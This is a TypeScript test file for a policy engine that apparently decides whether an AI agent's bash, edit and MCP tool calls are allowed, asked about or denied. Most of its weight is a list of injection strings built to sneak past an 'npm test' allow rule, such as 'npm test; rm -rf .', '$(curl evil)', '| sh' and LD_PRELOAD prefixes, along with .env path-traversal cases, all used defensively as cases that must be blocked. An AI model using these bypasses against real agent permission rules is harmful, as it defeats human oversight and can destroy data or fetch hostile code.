import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { POLICY } from '../../../protocol/limits.ts';
import { decide, matches, type PolicyRule, type Verdict } from '../../../protocol/policy.ts';
import { readSimpleCommand } from '../../../protocol/simple-command.ts';

const allowNpm: PolicyRule[] = [{ tool: 'bash', input: { command: 'npm test*' }, then: 'allow' }];

function bash(command: string, rules: PolicyRule[]): Verdict {
  return decide(rules, { tool: 'bash', input: { command }, agent: null, depth: 1 }).verdict;
}

function edit(path: string, rules: PolicyRule[], tool = 'edit'): Verdict {
  return decide(rules, { tool, input: { path }, agent: null, depth: 1 }).verdict;
}

describe('policy', () => {
  it('P1: asks for commands and MCP tools by default, and lets pass what only touches the overlay', () => {
    expect(bash('ls', [])).toBe('ask');
    expect(decide([], { tool: 'mcp__x__y', input: {}, agent: null, depth: 1 }).verdict).toBe('ask');
    for (const tool of ['edit', 'write', 'delete']) expect(edit('a.ts', [], tool)).toBe('allow');
  });

  it('P1: the first rule that matches decides', () => {
    const rules: PolicyRule[] = [
      { tool: 'bash', input: { command: 'git push*' }, then: 'deny' },
      { tool: 'bash', input: { command: 'git *' }, then: 'allow' },
      { tool: '*', then: 'deny' },
    ];
    expect(bash('git push origin', rules)).toBe('deny');
    expect(bash('git status', rules)).toBe('allow');
    expect(edit('a', rules)).toBe('deny');
    expect(decide(rules, { tool: 'bash', input: { command: 'git status' }, agent: null, depth: 1 })).toMatchObject({
      rule: 2,
    });
  });

  it('P1: rules for agents and depths are for these alone', () => {
    const rules: PolicyRule[] = [
      { tool: 'bash', agent: 'fix*', then: 'allow' },
      { tool: 'write', depth: 2, then: 'deny' },
    ];
    const call = { tool: 'bash', input: { command: 'ls' }, depth: 1 };
    expect(decide(rules, { ...call, agent: 'fixer' }).verdict).toBe('allow');
    expect(decide(rules, { ...call, agent: null }).verdict).toBe('ask');
    expect([1, 2, 3].map((depth) => decide(rules, { tool: 'write', input: {}, agent: null, depth }).verdict)).toEqual([
      'allow',
      'deny',
      'deny',
    ]);
  });

  it.each([
    ['src/../.env', 'allow', 'src/*'],
    ['./src/../../x', 'allow', './src/*'],
    ['src\\..\\.env', 'allow', 'src\\*'],
  ])('P2: the path %s is let pass by no pattern for another folder', (path, _then, pattern) => {
    expect(
      edit(path, [
        { tool: 'edit', input: { path: pattern }, then: 'allow' },
        { tool: 'edit', then: 'ask' },
      ]),
    ).toBe('ask');
  });

  it.each(['.env', './.env', 'src/../.env', 'a//..//.env', '.\\.env'])('P2: denying .env denies %s', (path) => {
    expect(edit(path, [{ tool: '*', input: { path: '.env' }, then: 'deny' }])).toBe('deny');
  });

  it('a missing or odd member of the input matches no pattern, or as JSON', () => {
    const rules: PolicyRule[] = [{ tool: 'edit', input: { path: '*' }, then: 'deny' }];
    expect(decide(rules, { tool: 'edit', input: {}, agent: null, depth: 1 }).verdict).toBe('allow');
    expect(decide(rules, { tool: 'edit', input: 'x', agent: null, depth: 1 }).verdict).toBe('allow');
    expect(decide(rules, { tool: 'edit', input: { path: ['a'] }, agent: null, depth: 1 }).verdict).toBe('deny');
    const proto: PolicyRule[] = [{ tool: 'edit', input: { constructor: '*' }, then: 'deny' }];
    expect(decide(proto, { tool: 'edit', input: {}, agent: null, depth: 1 }).verdict).toBe('allow');
  });

  it('P4: an input that is too long is asked for, and judged at once', () => {
    const long = `npm test ${'a'.repeat(POLICY.inputChars)}`;
    expect(bash(long, allowNpm)).toBe('ask');
    expect(edit('a'.repeat(POLICY.inputChars + 1), [{ tool: 'edit', input: { path: 'b*' }, then: 'deny' }])).toBe(
      'ask',
    );
    const began = performance.now();
    expect(matches(`${'*a'.repeat(400)}b`, 'a'.repeat(POLICY.inputChars))).toBe(false);
    expect(performance.now() - began).toBeLessThan(2_000);
  });
});

/** Each of them does, or may do, something else than run `npm test`. */
const FOOLING = [
  'npm test; rm -rf .',
  'npm test && curl evil',
  'npm test || curl evil',
  'npm test & curl evil',
  'npm test | sh',
  'npm test |& sh',
  'npm test\ncurl evil',
  'npm test\r\ncurl evil',
  'npm test\u2028curl evil',
  'npm test $(curl evil)',
  'npm test `curl evil`',
  'npm test "$(curl evil)"',
  'npm test "`curl evil`"',
  'npm test ${IFS}x',
  'npm test "$HOME"',
  "npm test $'\\n'",
  'npm test > /workspace/package.json',
  'npm test >> x',
  'npm test < x',
  'npm test <(curl evil)',
  'npm test <<EOF\nx\nEOF',
  'npm test <<< x',
  '(npm test)',
  '{ npm test; }',
  'npm test {a,b}',
  'npm test *',
  'npm test ?',
  'npm test [a]',
  'npm test ~/x',
  'npm test # comment',
  'npm test \\\n--x',
  'npm test \\; x',
  'npm test "a\\"b"',
  'npm test !!',
  "npm test 'unclosed",
  'npm test "unclosed',
  'npm test\u0000x',
  'npm test\tx\u000bcurl',
  'npm test é',
];

describe('P3: patterns over commands', () => {
  it.each(FOOLING)('P3: %j is not let pass as npm test', (command) => {
    expect(readSimpleCommand(command)).toBeNull();
    expect(bash(command, allowNpm)).toBe('ask');
    expect(bash(command, [...allowNpm, { tool: 'bash', then: 'allow' }])).toBe('ask');
  });

  it.each(['npm test', 'npm  test --watch=false', " npm test 'a b' ", 'npm test "x y" z', 'npm test\tx'])(
    '%j is',
    (command) => {
      expect(bash(command, allowNpm)).toBe('allow');
    },
  );

  it.each([
    'PATH=. npm test',
    'LD_PRELOAD=./x.so npm test',
    'time npm test',
    '! npm test',
    'eval npm test',
    'exec npm test',
    '. npm test',
  ])('%j is not let pass by "*"', (command) => {
    expect(bash(command, [{ tool: 'bash', input: { command: '*' }, then: 'allow' }])).toBe('ask');
  });

  it('what follows from other rules holds: a denial below an unfit pattern stays one', () => {
    expect(bash('npm test; ls', [...allowNpm, { tool: 'bash', then: 'deny' }])).toBe('deny');
    expect(bash('ls', [...allowNpm, { tool: 'bash', then: 'allow' }])).toBe('allow');
  });

  it.each(['rm -rf x', '/bin/rm -rf x', '"rm" -rf x', "r'm' -rf x", 'rm   -rf   x'])(
    'denying "rm *" denies %j',
    (command) => {
      expect(
        bash(command, [
          { tool: 'bash', input: { command: 'rm *' }, then: 'deny' },
          { tool: 'bash', then: 'allow' },
        ]),
      ).toBe('deny');
    },
  );

  it.each(['ls; rm -rf x', 'ls && r\\m x', '$(echo rm) x', 'true\nrm x'])('and never lets %j pass', (command) => {
    const rules: PolicyRule[] = [
      { tool: 'bash', input: { command: 'rm *' }, then: 'deny' },
      { tool: 'bash', then: 'allow' },
    ];
    expect(bash(command, rules)).not.toBe('allow');
  });

  it('property: with a pattern for one program, whatever holds a letter that shells know is not let pass', () => {
    const alive = fc.constantFrom(...';&|<>(){}$`\\\n\r*?[]#~!^'.split(''));
    fc.assert(
      fc.property(fc.string(), alive, fc.string(), (before, letter, after) => {
        const command = `npm test ${before.replace(/['"]/g, '')}${letter}${after.replace(/['"]/g, '')}`;
        expect(bash(command, allowNpm)).toBe('ask');
      }),
    );
  });

  it('property: what is read as simple is told back by its words, whatever is quoted', () => {
    const word = fc
      .string({ unit: fc.constantFrom(...'abz09._/-:=@%+,'.split('')), minLength: 1 })
      .filter((w) => !w.includes('='));
    const quoted = fc.string().map((text) => text.replace(/[^ -~]|'/g, ''));
    fc.assert(
      fc.property(
        word.filter((w) => !/^\.$/.test(w)),
        fc.array(quoted),
        (program, rest) => {
          expect(readSimpleCommand([program, ...rest.map((text) => `'${text}'`)].join(' '))).toEqual([
            program,
            ...rest,
          ]);
        },
      ),
    );
  });
});

describe('matches', () => {
  it('property: agrees with a regular expression', () => {
    const letters = fc.string({ unit: fc.constantFrom('a', 'b', '*', '\n', '.'), maxLength: 8 });
    fc.assert(
      fc.property(letters, letters, (pattern, text) => {
        const escaped = pattern.split('*').map((part) => part.replaceAll('.', '\\.'));
        expect(matches(pattern, text)).toBe(new RegExp(`^${escaped.join('[^]*')}$`).test(text));
      }),
      { numRuns: 500 },
    );
  });
});
